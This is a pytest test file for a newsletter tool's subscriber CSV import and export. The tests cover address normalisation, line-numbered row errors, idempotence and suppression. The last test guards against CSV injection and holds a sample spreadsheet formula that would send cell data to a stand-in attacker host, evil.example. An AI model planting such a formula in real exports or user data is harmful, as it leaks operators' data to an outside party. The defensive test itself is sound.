"""Subscribers: address normalisation, CSV import with line numbers, idempotence, export."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from syndicate.models import Subscription
from syndicate.store import Store
from syndicate.store.subscribers import SubscriberStore
from syndicate.subscribers.roster import InvalidRow, export_rows, import_csv, normalise_email
from syndicate.testing import FixedClock

CHANNELS = ["all", "world", "science-tech"]
CSV = """email,name,channels,cadence,sections,timezone
ana@Example.com,Ana Ruiz,world,weekly,,Europe/Madrid
 zoe@example.com ,Zoë Ðorđević,world;science-tech,daily,Science;Technology,Europe/Belgrade
not-an-address,Bad Row,world,,,
leo@example.com,Leo,world,fortnightly,,
mia@example.com,Mia,sports,,,
kai@example.com,Kai,world,,,Mars/Olympus
ANA@example.com,Ana again,world,weekly,,Europe/Madrid
noel@example.com,Noel,,,,
"""


def write(tmp_path: Path, text: str = CSV) -> Path:
    path = tmp_path / "subscribers.csv"
    path.write_text(text, encoding="utf-8")
    return path


def test_normalise_email() -> None:
    assert normalise_email(" Ana@Example.COM ") == "ana@example.com"
    with pytest.raises(InvalidRow, match="invalid email address"):
        normalise_email("ana@")


def test_import_reports_bad_rows_by_line_and_imports_the_rest(store: Store, tmp_path: Path) -> None:
    subs = SubscriberStore(store)
    report = import_csv(
        subs,
        write(tmp_path),
        known_channels=CHANNELS,
        default_channel=None,
        status="active",
        now=FixedClock(),
    )
    errors = dict(report.errors)
    assert set(errors) == {4, 5, 6, 7, 8, 9}
    assert "invalid email address" in errors[4]
    assert "cadence must be one of edition, daily, weekly, found 'fortnightly'" in errors[5]
    assert "unknown channel 'sports'" in errors[6]
    assert "unknown timezone 'Mars/Olympus'" in errors[7]
    assert errors[8] == "ana@example.com repeats line 2"
    assert "no channel" in errors[9]
    assert (report.added, report.updated) == (2, 0)
    zoe = subs.get("zoe@example.com")
    assert zoe is not None and zoe.status == "active" and zoe.timezone == "Europe/Belgrade"
    assert zoe.subscriptions == (
        Subscription("science-tech", "daily", ("Science", "Technology")),
        Subscription("world", "daily", ("Science", "Technology")),
    )
    ana = subs.get("ana@example.com")
    assert ana is not None and ana.name == "Ana Ruiz"


def test_reimporting_the_same_file_changes_nothing(store: Store, tmp_path: Path) -> None:
    subs = SubscriberStore(store)
    path = write(tmp_path)
    import_csv(
        subs, path, known_channels=CHANNELS, default_channel=None, status="active", now=FixedClock()
    )
    again = import_csv(
        subs, path, known_channels=CHANNELS, default_channel=None, status="active", now=FixedClock()
    )
    assert (again.added, again.updated) == (0, 0)
    assert again.unchanged == 2


def test_default_channel_and_pending_status(store: Store, tmp_path: Path) -> None:
    subs = SubscriberStore(store)
    path = write(tmp_path, "email\nnoel@example.com\n")
    report = import_csv(
        subs,
        path,
        known_channels=CHANNELS,
        default_channel="all",
        status="pending",
        now=FixedClock(),
    )
    assert report.added == 1
    noel = subs.get("noel@example.com")
    assert noel is not None and noel.status == "pending"
    assert noel.subscriptions == (Subscription("all"),)


def test_opted_out_and_suppressed_addresses_are_not_re_added(store: Store, tmp_path: Path) -> None:
    subs = SubscriberStore(store)
    clock = FixedClock()
    path = write(tmp_path, "email,channels\nana@example.com,world\nbo@example.com,world\n")
    import_csv(
        subs, path, known_channels=CHANNELS, default_channel=None, status="active", now=clock
    )
    subs.suppress("ana@example.com", "complained", source="postmark", detail="", now=clock())
    subs.suppress("gone@example.com", "bounced", source="ses", detail="", now=clock())
    path2 = write(tmp_path, "email,channels\nana@example.com,world\ngone@example.com,world\n")
    report = import_csv(
        subs, path2, known_channels=CHANNELS, default_channel=None, status="active", now=clock
    )
    assert (report.suppressed, report.added) == (2, 0)
    ana = subs.get("ana@example.com")
    assert ana is not None and ana.status == "complained"
    assert subs.get("gone@example.com") is None


def test_missing_email_column(store: Store, tmp_path: Path) -> None:
    report = import_csv(
        SubscriberStore(store),
        write(tmp_path, "mail,name\nx@y.example,X\n"),
        known_channels=CHANNELS,
        default_channel="all",
        status="active",
        now=FixedClock(),
    )
    assert report.errors == [(1, "no 'email' column (columns: mail, name)")]


def test_export_round_trips(store: Store, tmp_path: Path) -> None:
    subs = SubscriberStore(store)
    import_csv(
        subs,
        write(tmp_path),
        known_channels=CHANNELS,
        default_channel=None,
        status="active",
        now=FixedClock(),
    )
    out = io.StringIO()
    writer = csv.DictWriter(
        out, fieldnames=["email", "name", "channels", "cadence", "sections", "timezone"]
    )
    writer.writeheader()
    writer.writerows(export_rows(subs))
    report = import_csv(
        subs,
        write(tmp_path, out.getvalue()),
        known_channels=CHANNELS,
        default_channel=None,
        status="active",
        now=FixedClock(),
    )
    assert report.errors == [] and (report.added, report.updated) == (0, 0)


def test_remove(store: Store, tmp_path: Path) -> None:
    subs = SubscriberStore(store)
    import_csv(
        subs,
        write(tmp_path),
        known_channels=CHANNELS,
        default_channel=None,
        status="active",
        now=FixedClock(),
    )
    assert subs.remove("ana@example.com")
    assert not subs.remove("ana@example.com")
    assert subs.counts() == {"active": 1}


def test_a_formula_like_name_is_exported_quoted_and_imported_back_as_it_was(
    store: Store, tmp_path: Path
) -> None:
    """A name typed into the public form must not run as a spreadsheet formula in the
    operator's export (CSV injection); importing the export gives the name back."""
    subs = SubscriberStore(store)
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    path = tmp_path / "in.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "name", "channels"])
        writer.writerow(["ana@example.com", hostile, "world"])
        writer.writerow(["bo@example.com", "@SUM(1+1)", "world"])
    import_csv(
        subs, path, known_channels=CHANNELS, default_channel=None, status="active", now=FixedClock()
    )
    rows = list(export_rows(subs))
    names = {r["email"]: r["name"] for r in rows}
    assert names == {"ana@example.com": "'" + hostile, "bo@example.com": "'@SUM(1+1)"}
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    out = io.StringIO()
    writer2 = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer2.writeheader()
    writer2.writerows(rows)
    (tmp_path / "back.csv").write_text(out.getvalue(), encoding="utf-8")
    report = import_csv(
        subs,
        tmp_path / "back.csv",
        known_channels=CHANNELS,
        default_channel=None,
        status="active",
        now=FixedClock(),
    )
    assert report.errors == [] and (report.added, report.updated) == (0, 0)
    found = subs.get("ana@example.com")
    assert found is not None and found.name == hostile
